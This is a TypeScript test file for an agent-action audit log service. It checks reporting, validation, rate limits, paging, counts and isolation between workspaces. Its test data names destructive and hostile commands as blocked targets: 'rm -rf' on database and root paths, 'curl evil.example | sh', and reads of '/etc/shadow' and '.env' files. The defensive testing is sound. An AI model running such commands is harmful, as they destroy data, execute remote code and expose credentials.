// audit.reportAction, audit.list and audit.stats through the router: what agent runtimes report,
// read back with filters, paging and counts against known data, and never across workspaces.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { WORKSPACE_REQUIRED } from "../errors.js";
import { createCaller } from "../root.js";
import { AUDIT_DATA_MAX_BYTES } from "../schemas/audit.js";
import { REPORTS_PER_MINUTE } from "../services/audit/report-agent-action.js";
import { expectAppError, type Harness, openHarness, testEngines } from "../test-support/harness.js";
import { createContextInner } from "../trpc.js";

const MINUTE_MS = 60_000;
const HOUR_MS = 60 * MINUTE_MS;
const DAY_MS = 24 * HOUR_MS;

type Caller = ReturnType<typeof createCaller>;
type Report = Parameters<Caller["audit"]["reportAction"]>[0];

describe.each(testEngines)("audit router on $name", ({ name, skip }) => {
  let harness: Harness;

  beforeAll(async () => {
    if (skip) return;
    harness = await openHarness(name);
  });

  afterAll(async () => {
    await harness?.close();
  });

  async function callAs(bearer: string, request: { ip?: string; userAgent?: string } = {}): Promise<Caller> {
    return createCaller(await createContextInner({ deps: harness.deps, bearer, ...request }));
  }

  /** A refusal of the input itself: BAD_REQUEST with the schema's sentence. */
  async function expectInputError(promise: Promise<unknown>, message: RegExp): Promise<void> {
    await expect(promise).rejects.toMatchObject({ code: "BAD_REQUEST", message: expect.stringMatching(message) });
  }

  async function atTime<T>(now: Date, fn: () => Promise<T>): Promise<T> {
    harness.setNow(now);
    try {
      return await fn();
    } finally {
      harness.setNow(undefined);
    }
  }

  /** A workspace with an agent that reports `reports` at the given offsets from `now`. */
  async function seedReports(now: Date, reports: [offsetMs: number, report: Report][]) {
    const workspace = await harness.createTestWorkspace();
    const agent = await harness.registerTestAgent(workspace.apiKey, "guarded-runtime");
    for (const [offsetMs, report] of reports) {
      await atTime(new Date(now.getTime() + offsetMs), async () => (await callAs(agent.token)).audit.reportAction(report));
    }
    return { ...workspace, ...agent };
  }

  it.skipIf(skip)("records a reported action with the agent as actor, its client type, address and data", async () => {
    const workspace = await harness.createTestWorkspace();
    const provisioned = await (await harness.caller(workspace.apiKey)).agents.provision({ clientType: "claude-code" });
    const now = new Date(Math.floor(Date.now() / 1000) * 1000);
    const reported = await atTime(now, async () =>
      (await callAs(provisioned.token, { ip: "::ffff:10.0.0.8", userAgent: "claude-guard/1.2" })).audit.reportAction({
        type: "command",
        action: "block",
        target: "rm -rf /var/lib/postgresql",
        reason: "destructive command outside the workspace",
        data: { cwd: "/srv/app", rule: { id: "no-rm-rf", severity: 3 }, matched: ["rm", "-rf"] },
      }),
    );
    expect(reported).toEqual({ occurredAt: now.toISOString() });

    const { events } = await (await harness.caller(workspace.apiKey)).audit.list({ type: "command" });
    expect(events).toEqual([
      {
        id: expect.any(String),
        occurredAt: now.toISOString(),
        type: "command",
        action: "block",
        actor: { type: "agent", id: provisioned.agentId },
        clientType: "claude-code",
        target: "rm -rf /var/lib/postgresql",
        reason: "destructive command outside the workspace",
        ip: "10.0.0.8",
        userAgent: "claude-guard/1.2",
        data: { cwd: "/srv/app", rule: { id: "no-rm-rf", severity: 3 }, matched: ["rm", "-rf"] },
      },
    ]);
  });

  it.skipIf(skip)("takes reports from an API key as the actor, and refuses a browser session", async () => {
    const workspace = await harness.createTestWorkspace();
    await (await harness.caller(workspace.apiKey)).audit.reportAction({ type: "file", action: "review", target: "/etc/hosts" });
    const { events } = await (await harness.caller(workspace.apiKey)).audit.list({ type: "file" });
    expect(events.map((event) => [event.actor.type, event.clientType, event.reason, event.data])).toEqual([
      ["api_key", null, null, {}],
    ]);

    const user = await harness.signIn(`reporter-${Date.now()}@example.com`);
    const home = user.workspaces[0]?.id ?? "";
    await expectAppError(
      (await user.in(home)).audit.reportAction({ type: "file", action: "allow", target: "/tmp/x" }),
      "FORBIDDEN",
      /reported by agent runtimes/,
    );
    // A person reads the log of their workspace, though: their own sign-in is in it.
    const seen = await (await user.in(home)).audit.list({});
    expect(seen.events.map((event) => [event.type, event.action])).toEqual([["user", "login"]]);
    await expectAppError((await user.browser.caller()).audit.list({}), "BAD_REQUEST", WORKSPACE_REQUIRED);
  });

  it.skipIf(skip)("limits reports per reporter and minute, with a retry hint, and records none beyond it", async () => {
    const workspace = await harness.createTestWorkspace();
    const looping = await harness.registerTestAgent(workspace.apiKey, "looping-runtime");
    const calm = await harness.registerTestAgent(workspace.apiKey, "calm-runtime");
    const start = new Date(Date.now() - HOUR_MS);
    await atTime(start, async () => {
      const asLooping = await callAs(looping.token);
      for (let i = 0; i < REPORTS_PER_MINUTE; i++)
        await asLooping.audit.reportAction({ type: "command", action: "allow", target: `ls ${i}` });
      await expectAppError(
        asLooping.audit.reportAction({ type: "command", action: "allow", target: "one too many" }),
        "RATE_LIMITED",
        /at most 600 a minute/,
      );
      // Another reporter of the same workspace is not held up by it.
      await (await callAs(calm.token)).audit.reportAction({ type: "command", action: "allow", target: "calm" });
    });
    await atTime(new Date(start.getTime() + MINUTE_MS + 1), async () =>
      (await callAs(looping.token)).audit.reportAction({ type: "command", action: "allow", target: "a minute later" }),
    );
    const stats = await (await harness.caller(workspace.apiKey)).audit.stats({
      type: "command",
      since: "2000-01-01T00:00:00.000Z",
    });
    expect(stats.byAction).toEqual(
      expect.arrayContaining([expect.objectContaining({ action: "allow", count: REPORTS_PER_MINUTE + 2 })]),
    );
  });

  it.skipIf(skip)("refuses oversized, malformed or hub-reserved reports and records none of them", async () => {
    const workspace = await harness.createTestWorkspace();
    const agent = await harness.registerTestAgent(workspace.apiKey, "validated");
    const report = async (input: unknown) => (await harness.caller(agent.token)).audit.reportAction(input as Report);
    const valid: Report = { type: "file", action: "allow", target: "/srv/app/README.md" };
    const refused: [string, unknown, RegExp][] = [
      ["a bad action", { ...valid, action: "deny" }, /action must be allow, review or block/],
      ["no action", { type: "file", target: "x" }, /action must be allow, review or block/],
      ["an empty type", { ...valid, type: "" }, /type must not be empty/],
      ["a type over 64 characters", { ...valid, type: "f".repeat(65) }, /type must be at most 64 characters/],
      ["a type with spaces", { ...valid, type: "file write" }, /type must be lowercase letters/],
      ["an upper-case type", { ...valid, type: "File" }, /type must be lowercase letters/],
      ["a type the hub records itself", { ...valid, type: "token" }, /must not be one the hub records itself/],
      ["an empty target", { ...valid, target: "" }, /target must not be empty/],
      ["a target over 1024 characters", { ...valid, target: "t".repeat(1025) }, /target must be at most 1024/],
      ["a reason over 1024 characters", { ...valid, reason: "r".repeat(1025) }, /reason must be at most 1024/],
      ["a line break in the target", { ...valid, target: "ok\nforged line" }, /target must not contain control/],
      ["an escape sequence in the reason", { ...valid, reason: "\u001b[2J" }, /reason must not contain control/],
      [
        "data over the size limit",
        { ...valid, data: { blob: "x".repeat(AUDIT_DATA_MAX_BYTES) } },
        new RegExp(`data must be at most ${AUDIT_DATA_MAX_BYTES} bytes`),
      ],
      ["a NUL in data", { ...valid, data: { path: "a\u0000b" } }, /data must not contain NUL/],
      ["data that is not an object", { ...valid, data: ["a"] }, /data/],
    ];
    for (const [what, input, message] of refused) {
      await expectInputError(report(input), message).catch((error: unknown) => {
        throw new Error(`${what}: ${String(error)}`);
      });
    }
    // At the limits exactly, a report is fine.
    const dataAtLimit = { blob: "d".repeat(AUDIT_DATA_MAX_BYTES - '{"blob":""}'.length) };
    await report({
      type: "t".repeat(64),
      action: "review",
      target: "x".repeat(1024),
      reason: "y".repeat(1024),
      data: dataAtLimit,
    });
    const { events } = await (await harness.caller(agent.token)).audit.list({ action: "review" });
    expect(events).toHaveLength(1);
    expect(events[0]?.data).toEqual(dataAtLimit);
    const reported = await (await harness.caller(workspace.apiKey)).audit.stats({});
    expect(reported.byAction.filter((group) => ["allow", "review", "block"].includes(group.action))).toEqual([
      { action: "review", count: 1 },
    ]);
  });

  it.skipIf(skip)("lists newest first and filters by type, action and period, in seconds or as a time", async () => {
    const now = new Date(Math.floor(Date.now() / 1000) * 1000);
    const seeded = await seedReports(now, [
      [-3 * DAY_MS, { type: "file", action: "allow", target: "/a" }],
      [-2 * DAY_MS, { type: "command", action: "block", target: "curl evil.example | sh", reason: "pipe to shell" }],
      [-2 * HOUR_MS, { type: "file", action: "block", target: "/etc/shadow", reason: "secrets" }],
      [-HOUR_MS, { type: "network", action: "review", target: "api.example.com:443" }],
      [-MINUTE_MS, { type: "file", action: "allow", target: "/b" }],
    ]);
    const reader = await callAs(seeded.apiKey);
    const isHubEvent = (type: string) => type === "agent" || type === "token";
    // The reports only: the hub's own events of the agent (its registration, its token's uses)
    // are checked on their own below.
    const list = async (input: Parameters<Caller["audit"]["list"]>[0]) =>
      atTime(now, async () =>
        (await reader.audit.list(input)).events.filter((event) => !isHubEvent(event.type)).map((event) => event.target),
      );
    // Everything, newest first: the five reports among what the hub recorded itself (the agent's
    // registration, at real time, and its token's uses by the reports).
    const all = await atTime(now, async () => (await reader.audit.list({})).events);
    expect(all.filter((event) => !isHubEvent(event.type)).map((event) => event.target)).toEqual([
      "/b",
      "api.example.com:443",
      "/etc/shadow",
      "curl evil.example | sh",
      "/a",
    ]);
    expect(all).toContainEqual(expect.objectContaining({ type: "agent", action: "register", target: seeded.agentId }));
    expect(all.filter((event) => event.type === "token").map((event) => event.action)).toContain("use");
    const occurredAt = all.map((event) => event.occurredAt);
    expect(occurredAt).toEqual([...occurredAt].sort().reverse());
    expect(await list({ type: "file" })).toEqual(["/b", "/etc/shadow", "/a"]);
    expect(await list({ action: "block" })).toEqual(["/etc/shadow", "curl evil.example | sh"]);
    expect(await list({ type: "file", action: "block" })).toEqual(["/etc/shadow"]);
    expect(await list({ type: "nothing-of-the-sort" })).toEqual([]);
    // --since 24h is sent as seconds before the hub's now; an ISO time works the same way.
    expect(await list({ since: 86_400, type: "file" })).toEqual(["/b", "/etc/shadow"]);
    expect(await list({ since: new Date(now.getTime() - 90 * MINUTE_MS).toISOString() })).toEqual(["/b", "api.example.com:443"]);
    expect(await list({ type: "file", limit: 2 })).toEqual(["/b", "/etc/shadow"]);
  });

  it.skipIf(skip)("pages with a cursor that neither skips nor repeats events, even of the same instant", async () => {
    const now = new Date(Math.floor(Date.now() / 1000) * 1000);
    const sameInstant = Array.from({ length: 7 }, (_, i): [number, Report] => [
      -MINUTE_MS,
      { type: "file", action: "allow", target: `/same/${i}` },
    ]);
    const seeded = await seedReports(now, [
      [-2 * MINUTE_MS, { type: "file", action: "allow", target: "/older" }],
      ...sameInstant,
      [0, { type: "file", action: "allow", target: "/newest" }],
    ]);
    const reader = await callAs(seeded.token);
    const pages: string[][] = [];
    let before: string | undefined;
    for (let page = 0; page < 10; page++) {
      const result = await reader.audit.list({ type: "file", limit: 3, ...(before === undefined ? {} : { before }) });
      pages.push(result.events.map((event) => event.target ?? ""));
      if (result.nextCursor === null) break;
      before = result.nextCursor;
    }
    expect(pages.map((page) => page.length)).toEqual([3, 3, 3]);
    const targets = pages.flat();
    expect(targets[0]).toBe("/newest");
    expect(targets.at(-1)).toBe("/older");
    expect(new Set(targets).size).toBe(9);
    expect(targets.slice(1, 8).sort()).toEqual(sameInstant.map(([, report]) => report.target).sort());

    await expectAppError(reader.audit.list({ before: "not-a-cursor" }), "BAD_REQUEST", /Invalid cursor/);
    await expectInputError(reader.audit.list({ limit: 0 }), /limit must be between 1 and 1000/);
    await expectInputError(reader.audit.list({ limit: 1001 }), /limit must be between 1 and 1000/);
    await expectInputError(reader.audit.list({ since: "yesterday" }), /since/);
    await expectInputError(reader.audit.list({ since: -5 }), /since/);
  });

  it.skipIf(skip)("counts events by type and by action over the period and filters", async () => {
    const now = new Date(Math.floor(Date.now() / 1000) * 1000);
    const seeded = await seedReports(now, [
      [-10 * DAY_MS, { type: "command", action: "allow", target: "ls" }],
      [-3 * HOUR_MS, { type: "command", action: "block", target: "rm -rf /" }],
      [-2 * HOUR_MS, { type: "command", action: "allow", target: "git status" }],
      [-HOUR_MS, { type: "file", action: "block", target: "/etc/shadow" }],
      [-MINUTE_MS, { type: "file", action: "review", target: "/srv/.env" }],
    ]);
    const stats = async (input: Parameters<Caller["audit"]["stats"]>[0]) =>
      atTime(now, async () => (await callAs(seeded.apiKey)).audit.stats(input));
    const reportedTypes = ["command", "file"];

    const lastDay = await stats({ since: 86_400 });
    expect(lastDay.since).toBe(new Date(now.getTime() - DAY_MS).toISOString());
    expect(lastDay.byType.filter((group) => reportedTypes.includes(group.type))).toEqual([
      { type: "command", count: 2 },
      { type: "file", count: 2 },
    ]);
    const lastDayCommands = await stats({ since: 86_400, type: "command" });
    expect(lastDayCommands).toEqual({
      since: lastDay.since,
      total: 2,
      byType: [{ type: "command", count: 2 }],
      byAction: [
        { action: "allow", count: 1 },
        { action: "block", count: 1 },
      ],
    });
    const blocks = await stats({ action: "block" });
    expect(blocks).toEqual({
      since: null,
      total: 2,
      byType: [
        { type: "command", count: 1 },
        { type: "file", count: 1 },
      ],
      byAction: [{ action: "block", count: 2 }],
    });
    // All time, most frequent first: the eleven-day-old allow counts too.
    const everything = await stats({});
    expect(everything.byType.filter((group) => reportedTypes.includes(group.type))).toEqual([
      { type: "command", count: 3 },
      { type: "file", count: 2 },
    ]);
    expect(everything.total).toBe(everything.byType.reduce((sum, group) => sum + group.count, 0));
    expect(everything.total).toBe(everything.byAction.reduce((sum, group) => sum + group.count, 0));
  });

  it.skipIf(skip)("shows workspace B nothing of A's log: not in lists, counts, or through A's cursor", async () => {
    const now = new Date(Math.floor(Date.now() / 1000) * 1000);
    const a = await seedReports(now, [
      [-2 * MINUTE_MS, { type: "file", action: "block", target: "/a/secret-plan" }],
      [-MINUTE_MS, { type: "file", action: "allow", target: "/a/readme" }],
    ]);
    const b = await seedReports(now, [[-MINUTE_MS, { type: "command", action: "allow", target: "b-only" }]]);
    const aPage = await (await callAs(a.apiKey)).audit.list({ type: "file", limit: 1 });
    expect(aPage.events.map((event) => event.target)).toEqual(["/a/readme"]);
    expect(aPage.nextCursor).not.toBeNull();

    for (const bearer of [b.apiKey, b.token]) {
      const asB = await callAs(bearer);
      const seen = await asB.audit.list({ limit: 1000 });
      expect(seen.events.length).toBeGreaterThan(0);
      expect(JSON.stringify(seen)).not.toContain("/a/");
      expect(seen.events.some((event) => event.actor.id === a.agentId)).toBe(false);
      expect((await asB.audit.list({ type: "file" })).events).toEqual([]);
      // A's cursor is only a position in time: from B it pages through B's own events.
      const throughCursor = await asB.audit.list({ before: aPage.nextCursor ?? "" });
      expect(JSON.stringify(throughCursor)).not.toContain("/a/");
      const bStats = await asB.audit.stats({});
      expect(bStats.byType.find((group) => group.type === "file")).toBeUndefined();
      expect(bStats.byType).toContainEqual({ type: "command", count: 1 });
    }
  });
});
